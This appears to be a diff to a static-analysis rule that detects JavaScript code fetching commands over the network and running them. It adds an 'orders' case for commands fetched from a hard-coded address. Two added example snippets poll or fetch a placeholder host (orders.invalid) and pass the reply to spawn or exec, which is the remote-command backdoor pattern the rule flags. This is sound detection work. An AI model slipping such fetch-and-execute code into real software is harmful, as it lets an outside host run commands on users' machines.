@@ -1,7 +1,7 @@
 import { isOfStart, isQuoted } from '../src/define/given.js';
 import { isOfOwnPage } from '../src/define/pages.js';
 import { functionAround, isSameVariable } from '../src/define/variables.js';
-import { codeArguments, defineRule, spelling, step, stepsOf } from '../src/define.js';
+import { codeArguments, defineRule, fixedTargetOf, spelling, step, stepsOf } from '../src/define.js';
 import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
 import { isServed, MESSAGE } from '../src/vocabulary/served.js';
 
@@ -17,6 +17,7 @@ export default defineRule({
       worker: 'Fetches text with {source} and runs it in a worker',
       template: 'Puts what it fetched with {source} into code it runs with {sink}',
       command: 'Fetches a command with {source} and hands it to {sink}',
+      orders: 'Fetches a command with {source} from an address fixed in its code, and hands it to {sink}',
       relayed: 'Hands {sink} a command that what another file fetched with {source} is part of',
       program: 'Starts a program that what it fetched with {source} names, with {sink}',
       packages: 'Installs packages that {source} names while it is being installed',
@@ -30,6 +31,7 @@ export default defineRule({
       worker: 4,
       template: 5,
       command: 12,
+      orders: 13.5,
       relayed: 4,
       program: 5,
       packages: 9,
@@ -50,6 +52,14 @@ export default defineRule({
       {
         title: 'another process of the same program is given it',
         code: `const { spawn } = require('child_process');\nfetch('https://stage.invalid').then(r => r.text()).then(text => spawn(process.execPath, ['-e', text], { detached: true }));`,
+      },
+      {
+        title: 'a program and its words are what a host answers',
+        code: `const { spawn } = require('child_process'), axios = require('axios');\nsetInterval(() => axios.get('https://orders.invalid/next').then(({ data }) => data.idle || spawn(data.program, data.words)), 60000);`,
+      },
+      {
+        title: 'a line of a page is what runs',
+        code: `const { exec } = require('child_process');\nfetch('https://orders.invalid/').then(r => r.json()).then(order => order.run && exec(order.run));`,
       },
       {
         title: 'it is an address of its own, which is imported',
@@ -222,8 +232,12 @@ function messageOf(
   // Words out of a request for a program that is fixed: `cmd /c code <file>` opens an editor.
   if (isServed(detail) && arg !== args[0]) return undefined;
   // What an API client of one file answers reaches many parameters of others, few of them for sure.
-  if (line) return origin.file !== context.file ? 'relayed' : isServed(detail) ? 'ordered' : 'command';
-  return isServed(detail) ? undefined : 'program';
+  if (line && origin.file !== context.file) return 'relayed';
+  if (isServed(detail)) return line ? 'ordered' : undefined;
+  // One that is told a program alone may look for a browser; who is told its words as well does what it is told.
+  const isWhole = line || (args[1] !== undefined && context.labelsOf(args[1]).some(one => one.kind === 'remote'));
+  const isFixed = askedBy(context, label).some(asked => fixedTargetOf(context, asked) !== undefined);
+  return isWhole && isFixed ? 'orders' : line ? 'command' : 'program';
 }
 
 /**
